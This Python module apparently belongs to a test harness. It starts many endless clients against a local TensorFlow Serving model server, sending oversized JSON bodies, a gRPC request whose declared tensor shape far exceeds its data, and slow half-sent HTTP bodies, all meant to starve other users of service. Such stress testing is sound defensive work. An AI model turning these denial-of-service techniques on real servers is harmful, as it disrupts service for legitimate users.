"""Clients that try to keep a server from answering others, in a process of their own."""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import Awaitable, Callable

from serving.process import Ports

_PATH = "/v1/models/recommender:predict"
_PREDICT = "/tensorflow.serving.PredictionService/Predict"


def attack(ports: Ports, clients: int) -> None:
    """Attacks until the process is terminated."""
    asyncio.run(_attack(ports, clients))


async def _attack(ports: Ports, clients: int) -> None:
    import aiohttp
    import grpc

    async with (
        aiohttp.ClientSession(connector=aiohttp.TCPConnector(limit=0)) as session,
        grpc.aio.insecure_channel(f"127.0.0.1:{ports.grpc}") as channel,
    ):
        call = channel.unary_unary(_PREDICT)  # Bytes in, bytes out.
        large, vast = _lists(5_000_000), _vast_tensor()

        async def post(body: bytes) -> None:
            async with session.post(f"http://127.0.0.1:{ports.rest}{_PATH}", data=body) as response:
                await response.read()

        async def half_a_body() -> None:
            _, writer = await asyncio.open_connection("127.0.0.1", ports.rest)
            writer.write(f"POST {_PATH} HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n[".encode())
            await writer.drain()
            await asyncio.sleep(1)
            writer.close()

        ways: list[Callable[[], Awaitable[object]]] = [
            lambda: post(_SMALL),
            lambda: post(large),
            lambda: call(vast),
            half_a_body,
        ]
        await asyncio.gather(*(_for_ever(ways[number % len(ways)]) for number in range(clients)))


async def _for_ever(one: Callable[[], Awaitable[object]]) -> None:
    import aiohttp
    import grpc

    while True:
        with contextlib.suppress(aiohttp.ClientError, grpc.RpcError, ConnectionError):
            await one()


def _lists(count: int) -> bytes:
    """A body of empty lists."""
    return b'{"instances": [' + b"[]," * (count - 1) + b"[]]}"


_SMALL = _lists(21_000)  # Less than 64 KiB.


def _vast_tensor() -> bytes:
    """A request whose shape says a million strings, and whose value is one."""
    from tensorflow_serving.apis import predict_pb2

    request = predict_pb2.PredictRequest()
    request.model_spec.name = "recommender"
    request.inputs["user_id"].dtype = 7
    request.inputs["user_id"].tensor_shape.dim.add(size=1_000_000)
    request.inputs["user_id"].string_val.append(bytes(2000))
    return request.SerializeToString()
